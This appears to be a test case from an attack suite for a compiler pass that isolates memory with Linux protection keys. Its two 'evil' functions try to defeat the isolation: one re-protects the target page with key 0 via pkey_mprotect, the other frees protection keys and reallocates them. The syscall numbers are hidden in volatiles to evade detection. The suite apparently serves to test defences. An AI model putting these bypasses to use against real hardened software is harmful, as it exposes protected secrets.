// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
// A18: the system calls for protection keys. The numbers pass through a volatile, as code that was not built
// with the pass has no reason to show them.
#include "evil.h"

#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile long pkey_mprotect_number = 329;
static volatile long pkey_alloc_number = 330;
static volatile long pkey_free_number = 331;

int evil_pkey_mprotect(const struct evil_target *target) {
    size_t page = (size_t)sysconf(_SC_PAGESIZE);
    void *start = (void *)((uintptr_t)target->key & ~(page - 1));

    if (syscall(pkey_mprotect_number, start, page, PROT_READ | PROT_WRITE, 0) != 0)
        return evil_failed("pkey_mprotect");
    return evil_got(target, target->key, "pkey_mprotect");
}

// pkey_free does not ask who uses the key; pkey_alloc gives the same key again, and the kernel opens it in
// PKRU.
int evil_pkey_free(const struct evil_target *target) {
    for (int key = 1; key < 16; key++) {
        if (syscall(pkey_free_number, key) != 0)
            continue;
        if (syscall(pkey_alloc_number, 0, 0) < 0)
            return evil_failed("pkey_alloc");
        return evil_got(target, target->key, "pkey_free and pkey_alloc");
    }
    return evil_failed("pkey_free");
}
